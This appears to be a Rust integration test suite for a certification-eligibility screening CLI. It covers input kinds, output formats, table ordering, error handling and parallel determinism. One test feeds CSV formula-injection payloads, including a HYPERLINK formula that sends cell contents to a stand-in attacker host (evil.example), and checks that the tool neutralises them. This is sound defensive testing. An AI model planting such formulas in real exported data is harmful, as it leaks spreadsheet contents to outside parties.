//! `certcheck screen` end to end: every input kind, every output format, the
//! table's order, bad profiles in the middle of a roster, formula injection
//! in CSV, and the same bytes whatever `--jobs`.

use std::fs;
use std::path::Path;

use serde_json::Value;

use crate::common;
use common::certcheck;

const AS_OF: &str = "2026-11-25";

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

/// `certcheck screen ARGS --as-of AS_OF`, with `stdin` on standard input.
fn screen(args: &[&str], stdin: &str) -> Run {
    let out = certcheck()
        .arg("screen")
        .args(args)
        .args(["--as-of", AS_OF])
        .write_stdin(stdin)
        .output()
        .expect("runs");
    Run {
        code: out.status.code().expect("exit code"),
        stdout: String::from_utf8(out.stdout).expect("utf-8 stdout"),
        stderr: String::from_utf8(out.stderr).expect("utf-8 stderr"),
    }
}

/// The cells of one CSV record (RFC 4180; no newlines inside cells here).
fn csv_cells(line: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cells.last_mut().expect("a cell").push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => cells.push(String::new()),
            c => cells.last_mut().expect("a cell").push(c),
        }
    }
    cells
}

/// CSV output as records of named cells.
fn csv_records(stdout: &str) -> Vec<std::collections::HashMap<String, String>> {
    let mut lines = stdout.lines();
    let header = csv_cells(lines.next().expect("a header"));
    lines
        .map(|l| {
            let cells = csv_cells(l);
            assert_eq!(cells.len(), header.len(), "{l}");
            header.iter().cloned().zip(cells).collect()
        })
        .collect()
}

/// The first column of each table row (the header left out).
fn column(table: &str, n: usize) -> Vec<String> {
    table
        .lines()
        .skip(1)
        .map(|l| l.split_whitespace().nth(n).unwrap_or("").to_string())
        .collect()
}

const ROSTER: &str = "tests/fixtures/roster";

#[test]
fn every_input_kind_carries_its_source() {
    let stdin = "{\"name\": \"Pat Stdin\", \"targets\": [\"cpim\"]}\n\n{\"name\": \"Quinn Stdin\", \"id\": \"Q-9\", \"targets\": [\"cpim\"]}\n";
    let run = screen(
        &[
            "examples/sam.toml",
            "tests/fixtures/roster/b-team/ana.json",
            "-",
            ROSTER,
            "--format",
            "csv",
        ],
        stdin,
    );
    assert_eq!(run.code, 2, "{}", run.stderr);
    let got: Vec<(String, String, String)> = csv_records(&run.stdout)
        .into_iter()
        .map(|r| (r["source"].clone(), r["id"].clone(), r["status"].clone()))
        .collect();
    let expected = [
        // a TOML file, named
        ("examples/sam.toml", "sam", "not-eligible"),
        // a JSON file, named
        ("tests/fixtures/roster/b-team/ana.json", "A-7", "grace"),
        // standard input, as JSON Lines: the default id is stdin:LINE
        ("<stdin>:1", "stdin:1", "eligible"),
        ("<stdin>:3", "Q-9", "eligible"),
        // a folder, recursively, entries by name: TOML, JSON, JSON Lines
        (
            "tests/fixtures/roster/a-team/dana.toml",
            "C-1042",
            "certified",
        ),
        (
            "tests/fixtures/roster/a-team/dana.toml",
            "C-1042",
            "eligible",
        ),
        (
            "tests/fixtures/roster/a-team/sam.toml",
            "sam",
            "not-eligible",
        ),
        // (b-team/ana.json, named above, is screened once: here it is a
        // duplicate path, skipped)
        ("tests/fixtures/roster/members.jsonl:1", "M-1", "eligible"),
        ("tests/fixtures/roster/members.jsonl:2", "M-2", "eligible"),
        (
            "tests/fixtures/roster/members.jsonl:3",
            "members:3",
            "error",
        ),
        (
            "tests/fixtures/roster/members.jsonl:5",
            "M-5",
            "requirements-met",
        ),
    ];
    let expected: Vec<(String, String, String)> = expected
        .iter()
        .map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string()))
        .collect();
    assert_eq!(got, expected);
}

#[test]
fn a_bad_profile_in_the_middle_is_a_row_and_the_rest_are_judged() {
    let run = screen(&[ROSTER, "--format", "table"], "");
    assert_eq!(run.code, 2);
    let table = &run.stdout;
    let error_rows: Vec<&str> = table.lines().filter(|l| l.starts_with("error")).collect();
    assert_eq!(error_rows.len(), 1, "{table}");
    assert!(
        error_rows[0].contains(
            "tests/fixtures/roster/members.jsonl:3:88: impossible date `2019-02-30` for `start` in `employment` entry 1"
        ),
        "{}",
        error_rows[0]
    );
    // every other profile is still judged: 7 results besides the bad one
    assert_eq!(table.lines().count(), 1 + 7 + 1, "{table}");
    // stderr: the problem, with its help, then the counts
    assert_eq!(
        run.stderr,
        "error: tests/fixtures/roster/members.jsonl:3:88: impossible date `2019-02-30` for `start` in `employment` entry 1\n  help: there is no such day in the calendar\n\
         screened 7 profiles, 7 results: 1 requirements-met, 3 eligible, 1 not-eligible, 1 certified, 1 grace, 0 lapsed; 1 bad profile\n"
    );
    // JSON and CSV say the same
    let json = screen(&[ROSTER, "--format", "json"], "");
    assert_eq!(json.code, 2);
    assert_eq!(json.stderr, run.stderr);
    let csv = screen(&[ROSTER, "--format", "csv"], "");
    assert_eq!(csv.code, 2);
    let bad: Vec<_> = csv_records(&csv.stdout)
        .into_iter()
        .filter(|r| r["status"] == "error")
        .collect();
    assert_eq!(bad.len(), 1);
    assert_eq!(bad[0]["source"], "tests/fixtures/roster/members.jsonl:3");
    assert!(
        bad[0]["shortfall"]
            .starts_with("tests/fixtures/roster/members.jsonl:3:88: impossible date")
    );
}

#[test]
fn json_is_one_report_per_profile_in_input_order() {
    let run = screen(&[ROSTER, "--format", "json"], "");
    let lines: Vec<Value> = run
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).expect("each line is one JSON object"))
        .collect();
    let sources: Vec<&str> = lines
        .iter()
        .map(|l| l["source"].as_str().expect("source"))
        .collect();
    assert_eq!(
        sources,
        [
            "tests/fixtures/roster/a-team/dana.toml",
            "tests/fixtures/roster/a-team/sam.toml",
            "tests/fixtures/roster/b-team/ana.json",
            "tests/fixtures/roster/members.jsonl:1",
            "tests/fixtures/roster/members.jsonl:2",
            "tests/fixtures/roster/members.jsonl:3",
            "tests/fixtures/roster/members.jsonl:5",
        ]
    );
    // a judged profile: check's report, plus source and errors
    let dana = &lines[0];
    assert_eq!(dana["as_of"], AS_OF);
    assert_eq!(dana["profile"]["name"], "Dana Whitfield");
    assert_eq!(dana["profile"]["id"], "C-1042");
    assert_eq!(dana["results"][0]["certification"], "cmq-oe");
    assert_eq!(dana["results"][0]["status"], "certified");
    assert_eq!(dana["results"][0]["renewal"]["units_needed"], 9.5);
    assert_eq!(dana["errors"], serde_json::json!([]));
    // the same as `check --format json` gives, field for field
    let check = certcheck()
        .args([
            "check",
            "tests/fixtures/roster/a-team/dana.toml",
            "--format",
            "json",
        ])
        .args(["--as-of", AS_OF])
        .output()
        .expect("runs");
    let mut check: Value = serde_json::from_slice(&check.stdout).expect("a report");
    check["source"] = "tests/fixtures/roster/a-team/dana.toml".into();
    check["errors"] = serde_json::json!([]);
    assert_eq!(dana, &check);
    // a bad profile: the same fields, its problems in `errors`
    let bad = &lines[5];
    assert_eq!(
        bad["profile"],
        serde_json::json!({"name": null, "id": "members:3"})
    );
    assert_eq!(bad["results"], serde_json::json!([]));
    assert_eq!(
        bad["errors"],
        serde_json::json!([{
            "file": "tests/fixtures/roster/members.jsonl",
            "line": 3,
            "column": 88,
            "message": "impossible date `2019-02-30` for `start` in `employment` entry 1",
            "help": "there is no such day in the calendar",
        }])
    );
}

#[test]
fn the_table_is_sorted_by_what_to_act_on_first() {
    let dir = tempfile::tempdir().expect("a temp dir");
    // Not eligible, with eligible_on at different days, and one with none
    // (no degree, a role that ended: time alone will not do it).
    let ne = |id: &str, start: &str, end: Option<&str>| {
        let end = end
            .map(|e| format!(", \"end\": \"{e}\""))
            .unwrap_or_default();
        format!(
            "{{\"name\": \"{id}\", \"id\": \"{id}\", \"targets\": [\"cmq-oe\"], \"employment\": [{{\"start\": \"{start}\", \"decision_making\": true{end}}}]}}\n"
        )
    };
    let roster = [
        ne("ne-2030", "2020-06-01", None),
        ne("ne-never", "2020-06-01", Some("2022-06-01")),
        ne("ne-2028", "2018-06-01", None),
    ]
    .concat();
    let jsonl = dir.path().join("ne.jsonl");
    fs::write(&jsonl, roster).expect("written");
    let run = screen(
        &[jsonl.to_str().expect("utf-8 path"), "tests/fixtures/status"],
        "",
    );
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(
        column(&run.stdout, 0),
        [
            "requirements-met",
            "requirements-met",
            "eligible",
            "eligible",
            "not-eligible",
            "not-eligible",
            "not-eligible",
            // held: soonest deadline first (the end of grace once in it)
            "lapsed",
            "lapsed",
            "grace",
            "grace",
            "certified",
        ]
    );
    assert_eq!(
        column(&run.stdout, 1),
        [
            "cmq-oe-requirements-met",
            "cpim-requirements-met",
            "cmq-oe-eligible",
            "cpim-eligible",
            "ne-2028",
            "ne-2030",
            "ne-never",
            "cpim-lapsed",
            "cmq-oe-lapsed",
            "cmq-oe-grace",
            "cpim-grace",
            "cpim-certified",
        ]
    );
    let ne_dates: Vec<String> = run
        .stdout
        .lines()
        .filter(|l| l.starts_with("not-eligible"))
        .map(|l| l.split_whitespace().nth(4).unwrap_or("").to_string())
        .collect();
    assert_eq!(
        ne_dates,
        ["2028-05-30", "2030-05-31", "-"],
        "{}",
        run.stdout
    );
    let header = run.stdout.lines().next().expect("a header");
    assert!(header.starts_with("STATUS  "), "{header}");
    assert!(header.ends_with("  SHORTFALL"), "{header}");
}

#[test]
fn csv_cells_that_look_like_formulas_are_neutralised() {
    let stdin = concat!(
        r#"{"name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "id": "+1-555", "targets": ["cpim"]}"#,
        "\n",
        r#"{"name": "@SUM(A1:A9)", "id": "-2", "targets": ["cpim"]}"#,
        "\n",
        "{\"name\": \"\\tTab\", \"id\": \"\\rcr\", \"targets\": [\"cpim\"]}\n",
        r#"{"name": "Plain, with a comma", "id": "ok=1", "targets": ["cpim"]}"#,
        "\n",
    );
    let run = screen(&["-", "--format", "csv"], stdin);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(
        lines[1],
        r#""'+1-555","'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",<stdin>:1,cpim,eligible,,Exam: The CPIM 8.0 exam: still to pass `cpim`,,"#
    );
    let records = csv_records(&run.stdout);
    let cells: Vec<(&str, &str)> = records
        .iter()
        .map(|r| (r["id"].as_str(), r["name"].as_str()))
        .collect();
    assert_eq!(
        cells,
        [
            (
                "'+1-555",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
            ),
            ("'-2", "'@SUM(A1:A9)"),
            ("'\rcr", "'\tTab"),
            ("ok=1", "Plain, with a comma"),
        ]
    );
    // no cell of any record begins with a formula character
    for r in &records {
        for v in r.values() {
            assert!(
                !v.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{v:?} in {r:?}"
            );
        }
    }
}

/// A roster big enough to need several chunks: JSON Lines with a bad line
/// here and there, and a folder of TOML files.
fn big_roster(dir: &Path) -> Vec<String> {
    let mut jsonl = String::new();
    for i in 0..1300 {
        let line = match i % 7 {
            0 => format!("{{\"name\": \"P{i}\", \"targets\": [\"cpim\"]}}"),
            1 => format!(
                "{{\"name\": \"P{i}\", \"certifications\": [{{\"id\": \"cpim\", \"earned\": \"20{:02}-03-01\"}}]}}",
                15 + i % 11
            ),
            2 => format!(
                "{{\"name\": \"P{i}\", \"targets\": [\"cmq-oe\"], \"employment\": [{{\"start\": \"20{:02}-01-15\", \"decision_making\": true}}]}}",
                5 + i % 20
            ),
            3 if i % 5 == 0 => {
                format!("{{\"name\": \"P{i}\", \"employment\": [{{\"start\": \"2020-13-01\"}}]}}")
            }
            3 => format!("{{\"name\": \"P{i}\",}}"),
            _ => format!("{{\"name\": \"P{i}\", \"id\": \"id-{i}\"}}"),
        };
        jsonl.push_str(&line);
        jsonl.push('\n');
    }
    let path = dir.join("big.jsonl");
    fs::write(&path, jsonl).expect("written");
    let folder = dir.join("toml");
    for i in 0..60 {
        let sub = folder.join(format!("team-{}", i % 4));
        fs::create_dir_all(&sub).expect("a folder");
        let text = if i % 13 == 0 {
            format!("name = \"T{i}\"\nnmae = 1\n")
        } else {
            format!(
                "name = \"T{i}\"\n[[certifications]]\nid = \"cmq-oe\"\nearned = 20{:02}-0{}-10\n",
                16 + i % 9,
                1 + i % 9
            )
        };
        fs::write(sub.join(format!("{i:03}.toml")), text).expect("written");
    }
    vec![
        path.display().to_string(),
        folder.display().to_string(),
        "-".to_string(),
    ]
}

#[test]
fn jobs_1_and_jobs_4_give_the_same_bytes() {
    let dir = tempfile::tempdir().expect("a temp dir");
    let inputs = big_roster(dir.path());
    let stdin: String = (0..700)
        .map(|i| format!("{{\"name\": \"S{i}\", \"targets\": [\"cpim\", \"cmq-oe\"]}}\n"))
        .collect();
    for format in ["table", "csv", "json", "html"] {
        let runs: Vec<Run> = ["1", "4"]
            .iter()
            .map(|jobs| {
                let mut args: Vec<&str> = inputs.iter().map(String::as_str).collect();
                // The two built-in certifications the roster is about, so
                // that the counts do not move when rule files are added.
                args.extend(["--cert", "cmq-oe", "--cert", "cpim"]);
                args.extend(["--format", format, "--jobs", jobs]);
                screen(&args, &stdin)
            })
            .collect();
        assert_eq!(runs[0].code, 2, "{format}");
        assert_eq!(runs[1].code, 2, "{format}");
        assert!(runs[0].stdout.len() > 100_000, "{format}: a real roster");
        assert!(runs[0].stdout == runs[1].stdout, "{format}: stdout differs");
        assert_eq!(runs[0].stderr, runs[1].stderr, "{format}");
        assert!(
            runs[0]
                .stderr
                .ends_with("screened 2060 profiles, 3738 results: 0 requirements-met, 1795 eligible, 1702 not-eligible, 73 certified, 5 grace, 163 lapsed; 191 bad profiles\n"),
            "{}",
            runs[0].stderr
        );
        // the first 20 bad profiles are listed, the rest counted
        assert!(
            runs[0]
                .stderr
                .contains("error: 171 more bad profiles (see the `error` rows)\n"),
            "{}",
            runs[0].stderr
        );
    }
}

#[test]
fn exit_codes_follow_the_worst_result() {
    let fine = screen(&["tests/fixtures/status/cpim-certified.toml"], "");
    assert_eq!(fine.code, 0, "{}", fine.stderr);
    let attention = screen(&["tests/fixtures/status/cpim-grace.toml"], "");
    assert_eq!(attention.code, 1, "{}", attention.stderr);
    let empty = screen(&["-"], "\n\n");
    assert_eq!(empty.code, 0);
    assert_eq!(empty.stdout, "");
    assert_eq!(
        empty.stderr,
        "screened 0 profiles, 0 results: 0 requirements-met, 0 eligible, 0 not-eligible, 0 certified, 0 grace, 0 lapsed; 0 bad profiles\n"
    );
    let csv = screen(&["-", "--format", "csv"], "");
    assert_eq!(
        csv.stdout,
        "id,name,source,certification,status,eligible_on,shortfall,cycle_end,units_needed\n"
    );
}

#[test]
fn cert_selects_and_unknown_cert_is_a_usage_error() {
    let run = screen(&[ROSTER, "--cert", "cpim", "--format", "csv"], "");
    let certs: Vec<String> = csv_records(&run.stdout)
        .into_iter()
        .filter(|r| r["status"] != "error")
        .map(|r| r["certification"].clone())
        .collect();
    assert_eq!(certs.len(), 6);
    assert!(certs.iter().all(|c| c == "cpim"), "{certs:?}");

    let bad = screen(&[ROSTER, "--cert", "cmq-eo"], "");
    assert_eq!(bad.code, 2);
    assert_eq!(bad.stdout, "");
    assert_eq!(
        bad.stderr,
        "error: unknown certification `cmq-eo`\n  help: did you mean `cmq-oe`?\n"
    );
}

#[test]
fn usage_errors_write_nothing() {
    let missing = screen(&["no/such/roster", "examples/sam.toml"], "");
    assert_eq!(missing.code, 2);
    assert_eq!(missing.stdout, "");
    assert_eq!(
        missing.stderr,
        "error: cannot read `no/such/roster`: no such file or directory\n"
    );
    let twice = screen(&["-", "-"], "");
    assert_eq!(twice.code, 2);
    assert_eq!(twice.stdout, "");
    assert!(twice.stderr.contains("more than once"), "{}", twice.stderr);
    let jobs = screen(&[ROSTER, "--jobs", "0"], "");
    assert_eq!(jobs.code, 2);
    assert_eq!(jobs.stdout, "");
    let date = certcheck()
        .args(["screen", ROSTER, "--as-of", "2023-02-30"])
        .output()
        .expect("runs");
    assert_eq!(date.status.code(), Some(2));
    assert!(date.stdout.is_empty());
    assert_eq!(
        String::from_utf8_lossy(&date.stderr),
        "error: invalid date `2023-02-30` for `--as-of`\n  help: expected a date like `2026-11-25`\n"
    );
}

#[test]
fn html_is_one_page_with_every_readable_candidate_in_input_order() {
    let run = screen(&[ROSTER, "--format", "html"], "");
    // the roster has one bad profile: reported on stderr, exit 2
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(
        run.stderr
            .contains("members.jsonl:3:88: impossible date `2019-02-30`"),
        "{}",
        run.stderr
    );
    let page = &run.stdout;
    assert!(
        page.starts_with("<!DOCTYPE html>"),
        "{}",
        &page[..page.len().min(200)]
    );
    assert!(page.trim_end().ends_with("</html>"));
    assert!(page.contains("<table"));
    // no external assets: the only links are rule sources
    assert!(!page.contains("<script src") && !page.contains("<link "));
    let dana = page
        .find("tests/fixtures/roster/a-team/dana.toml")
        .expect("dana");
    let sam = page
        .find("tests/fixtures/roster/a-team/sam.toml")
        .expect("sam");
    let ana = page
        .find("tests/fixtures/roster/b-team/ana.json")
        .expect("ana");
    assert!(dana < sam && sam < ana, "input order");
    assert!(
        !page.contains("members.jsonl:3"),
        "the bad profile has no detail"
    );
}

/// A warning (a degree dated after the as-of date) is in the JSON Lines
/// report as in `check`'s; the table and the CSV, which show none, judge
/// the same.
#[test]
fn json_lines_keep_the_warnings() {
    let line = r#"{"name": "Future Grad", "id": "F-1", "targets": ["cmq-oe"], "education": [{"level": "bachelor", "completed": "2027-05-01"}], "employment": [{"employer": "Acme", "start": "2015-01-01"}]}"#;
    let run = screen(&["-", "--format", "json"], line);
    let report: Value = serde_json::from_str(run.stdout.trim()).expect("one JSON object");
    let warnings = report["warnings"].as_array().expect("warnings");
    assert!(
        warnings
            .iter()
            .any(|w| w.as_str().is_some_and(|w| w.contains("2027-05-01"))),
        "{warnings:?}"
    );
    let status = report["results"][0]["status"].clone();
    let csv = screen(&["-", "--format", "csv"], line);
    let row = csv_cells(csv.stdout.lines().nth(1).expect("a row"));
    assert_eq!(Value::from(row[4].as_str()), status);
    assert_eq!(csv.code, run.code);
}

/// For a rule with alternative paths (PMP), the shortfall names what is
/// missing on the path that will be met soonest: two months of the 24-month
/// route for a GAC-accredited degree, not a degree or the 60-month route.
#[test]
fn the_shortfall_of_a_rule_with_paths_is_that_of_the_soonest_path() {
    let stdin = concat!(
        r#"{"name": "Ana", "id": "A-1", "targets": ["pmp"], "#,
        r#""education": [{"level": "bachelor", "tags": ["gac-accredited"], "completed": "2015-06-01"}], "#,
        r#""employment": [{"start": "2024-01-20", "tags": ["project-leadership"]}], "#,
        r#""training": [{"hours": 35, "completed": "2023-03-01"}]}"#,
        "\n",
        r#"{"name": "Bo", "id": "B-2", "targets": ["pmp"], "#,
        r#""education": [{"level": "secondary", "completed": "2010-06-01"}], "#,
        r#""employment": [{"start": "2022-06-10", "tags": ["project-leadership"]}], "#,
        r#""training": [{"hours": 35, "completed": "2023-03-01"}]}"#,
        "\n",
    );
    let out = certcheck()
        .args(["screen", "-", "--as-of", "2025-10-01", "--format", "csv"])
        .write_stdin(stdin)
        .output()
        .expect("runs");
    let stdout = String::from_utf8(out.stdout).expect("utf-8");
    let rows = csv_records(&stdout);
    let shortfall = |id: &str| {
        rows.iter()
            .find(|r| r["id"] == id)
            .map(|r| r["shortfall"].clone())
            .unwrap_or_default()
    };
    // 2024-01 to 2025-10: 22 calendar months; met on 2025-12-01
    assert!(
        shortfall("A-1").starts_with("24 months leading projects: 22 of 24"),
        "{stdout}"
    );
    // a secondary diploma only: the 60-month route (2022-06 to 2025-10: 41)
    assert!(
        shortfall("B-2").starts_with("60 months leading projects: 41 of 60"),
        "{stdout}"
    );
}
